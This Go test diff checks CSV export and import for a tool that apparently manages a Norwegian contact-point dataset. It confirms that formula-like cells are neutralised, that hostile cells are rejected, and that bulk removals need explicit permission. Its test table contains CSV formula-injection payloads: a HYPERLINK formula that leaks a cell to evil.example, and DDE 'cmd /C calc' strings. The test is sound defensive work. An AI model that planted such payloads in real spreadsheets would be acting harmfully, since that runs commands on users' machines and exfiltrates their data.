@@ -336,3 +336,82 @@ func TestDiff(t *testing.T) {
 	assert.Equal(t, 1, code)
 	assert.Contains(t, stderr, "ugyldig JSON")
 }
+
+// Cells a spreadsheet would run as formulas are written neutralised and
+// read back as they were; hostile cells in a sheet are refused by row and
+// column; a phone number with +47 passes.
+func TestCSVFormulaSafety(t *testing.T) {
+	dir := copyData(t)
+	d, err := store.LoadDir(dir)
+	require.NoError(t, err)
+	for i := range d.ContactPoints {
+		if d.ContactPoints[i].ID == "selvhjelp-norge" {
+			d.ContactPoints[i].Phone = "+47 23 33 19 00"
+			d.ContactPoints[i].Groups = "-grupper på tvers; =se kilden"
+			d.ContactPoints[i].Note = "@merk: ring før du kommer"
+		}
+	}
+	require.NoError(t, store.WriteFiles(d, dir, []string{dataset.ContactPointsFile}))
+	before := snapshot(t, dir)
+	code, csvText, stderr := runCmd(t, "", "export-csv", "--data", dir, "--bom=false")
+	require.Equal(t, 0, code, stderr)
+	for _, cell := range []string{"'+47 23 33 19 00", "'-grupper på tvers; =se kilden", "'@merk: ring før du kommer"} {
+		assert.Contains(t, csvText, cell, "exported neutralised")
+	}
+	file := filepath.Join(t.TempDir(), "ark.csv")
+	require.NoError(t, os.WriteFile(file, []byte(csvText), 0o644))
+	code, out, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
+	require.Equal(t, 0, code, stderr)
+	assert.Contains(t, out, "0 endret")
+	assert.Equal(t, before, snapshot(t, dir), "the round trip is lossless")
+
+	header := "id;navn;type;kommunenummer;status;kilde1_url;merknad;telefon\n"
+	tests := []struct {
+		name, row, want string
+	}{
+		{"hyperlink", `link-test;LINK Test;senter;4601;ukjent;https://example.no;"=HYPERLINK(""https://evil.example/?d=""&A1,""LINK Oslo"")";`, `rad 2: kolonne merknad: cellen begynner med "="`},
+		{"command", `link-test;LINK Test;senter;4601;ukjent;https://example.no;+cmd|' /C calc'!A0;`, `rad 2: kolonne merknad: cellen begynner med "+"`},
+		{"at", `link-test;LINK Test;senter;4601;ukjent;https://example.no;@SUM(1+1)*cmd|' /C calc'!A0;`, `rad 2: kolonne merknad: cellen begynner med "@"`},
+		{"minus", `link-test;LINK Test;senter;4601;ukjent;https://example.no;-2+3+cmd|' /C calc'!A0;`, `rad 2: kolonne merknad: cellen begynner med "-"`},
+		{"tab", "link-test;LINK Test;senter;4601;ukjent;https://example.no;\t=1+1;", `rad 2: kolonne merknad: cellen begynner med "\t"`},
+		{"in a source", `link-test;LINK Test;senter;4601;ukjent;=1+1;;`, `rad 2: kolonne kilde1_url: cellen begynner med "="`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := copyData(t)
+			before := snapshot(t, dir)
+			file := filepath.Join(t.TempDir(), "ark.csv")
+			require.NoError(t, os.WriteFile(file, []byte(header+tt.row+"\n"), 0o644))
+			code, _, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
+			assert.Equal(t, 1, code)
+			assert.Contains(t, stderr, tt.want)
+			assert.Equal(t, before, snapshot(t, dir))
+		})
+	}
+	t.Run("phone with +47 typed in a spreadsheet", func(t *testing.T) {
+		dir := copyData(t)
+		file := filepath.Join(t.TempDir(), "ark.csv")
+		require.NoError(t, os.WriteFile(file, []byte(header+"link-test;LINK Test;senter;4601;ukjent;https://example.no;;+47 55 55 55 55\n"), 0o644))
+		code, _, stderr := runCmd(t, "", "import-csv", file, "--data", dir)
+		require.Equal(t, 0, code, stderr)
+	})
+}
+
+// A sheet that lost most of its rows cannot empty the dataset.
+func TestImportReplaceNeedsAllowRemovals(t *testing.T) {
+	dir := copyData(t)
+	before := snapshot(t, dir)
+	n := len(fixtureData(t).ContactPoints)
+	file := filepath.Join(t.TempDir(), "ark.csv")
+	require.NoError(t, os.WriteFile(file, []byte("id;navn;type;kommunenummer;status;kilde1_url\nlink-test;LINK Test;senter;4601;ukjent;https://example.no\n"), 0o644))
+
+	code, _, stderr := runCmd(t, "", "import-csv", file, "--replace", "--data", dir)
+	assert.Equal(t, 1, code)
+	assert.Contains(t, stderr, fmt.Sprintf("ville fjernet %d kontaktpunkter: link-bergen-og-omegn, link-oslo", n))
+	assert.Contains(t, stderr, fmt.Sprintf("--allow-removals %d", n))
+	assert.Equal(t, before, snapshot(t, dir))
+
+	code, out, stderr := runCmd(t, "", "import-csv", file, "--replace", "--allow-removals", fmt.Sprint(n), "--data", dir)
+	require.Equal(t, 0, code, stderr)
+	assert.Contains(t, out, fmt.Sprintf("%d fjernet", n))
+}
